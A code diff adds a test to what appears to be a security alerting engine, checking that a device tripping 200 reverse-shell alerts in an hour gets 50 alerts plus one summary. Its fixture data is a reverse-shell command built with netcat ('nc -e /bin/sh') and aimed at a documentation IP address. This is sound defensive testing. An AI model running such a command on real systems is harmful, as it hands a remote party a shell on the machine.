@@ -255,3 +255,16 @@ def test_the_corpus_through_each_engine_is_caught_line_by_line(engine, tmp_path)
               for e in a.evidence}
     missed = [(rule, form) for rule, form in expected if (rule, form) not in caught]
     assert missed == []
+
+
+def test_a_device_s_new_alerts_per_hour_are_bounded():
+    """A device that trips 200 distinct alerts in an hour (hostile, or broken) gets 50 of its
+    own and one summary for the rest of that hour, so it cannot drown the view."""
+    items = [_item("nc -e /bin/sh 203.0.113.7 %d" % (1000 + i), START + i * 10, pid=100 + i)
+             for i in range(200)]
+    alerts = of_rule(_fired(items), "reverse-shell")
+    summary = [a for a in alerts if a["key"].startswith("over the hourly budget")]
+    assert len(alerts) == 51 and len(summary) == 1
+    assert summary[0]["count"] == 150
+    later = _fired(items[:1] + [_item("nc -e /bin/sh 203.0.113.7 9", START + 3600 * 2, pid=9)])
+    assert len(of_rule(later, "reverse-shell")) == 2     # a new hour, a new budget
